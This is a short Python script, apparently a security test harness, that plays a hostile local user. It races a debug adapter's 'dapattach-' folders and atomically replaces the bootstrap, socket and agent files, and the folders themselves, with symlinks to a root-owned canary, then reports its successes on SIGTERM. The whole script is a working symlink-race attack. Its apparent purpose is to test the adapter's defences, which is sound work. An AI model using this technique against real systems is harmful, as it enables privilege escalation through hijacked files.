"""A hostile process of the target's user: in the folder argv[1] (where the adapter places its attach
folders), it keeps trying to swap every name in every attach folder for a symlink to argv[2] (a root-owned
canary), by atomic rename, and to swap the folders themselves. It prints `SAW NAME` for each new folder;
on SIGTERM, a JSON line with what it managed:
`planted` counts names inside an attach folder it replaced (a name it took in the parent after a folder
was gone is not a win, and is tidied away)."""

import contextlib
import json
import os
import signal
import sys

parent, canary = sys.argv[1], sys.argv[2]
NAMES = ("bootstrap.py", "agent.sock", "agent", "agent/__init__.py", "agent/__pycache__")
seen: set[str] = set()
tries = planted = 0


def report(number, frame):
    for name in os.listdir(parent):
        if os.path.islink(os.path.join(parent, name)):
            os.unlink(os.path.join(parent, name))
    print(json.dumps({"folders_seen": len(seen), "tries": tries, "planted": planted}), flush=True)
    sys.exit(0)


signal.signal(signal.SIGTERM, report)
print("RACING", flush=True)
while True:
    try:
        folders = [name for name in os.listdir(parent) if name.startswith("dapattach-")]
    except OSError:
        continue
    for folder in folders:
        if folder not in seen:
            seen.add(folder)
            print(f"SAW {folder}", flush=True)
        base = os.path.join(parent, folder)
        for name in (*NAMES, ""):
            victim = os.path.join(base, name) if name else base
            link = os.path.join(os.path.dirname(victim), f".racer-{tries}")
            tries += 1
            try:
                os.symlink(canary, link)
                os.rename(link, victim)
                planted += bool(name)
            except OSError:
                with contextlib.suppress(OSError):
                    os.unlink(link)
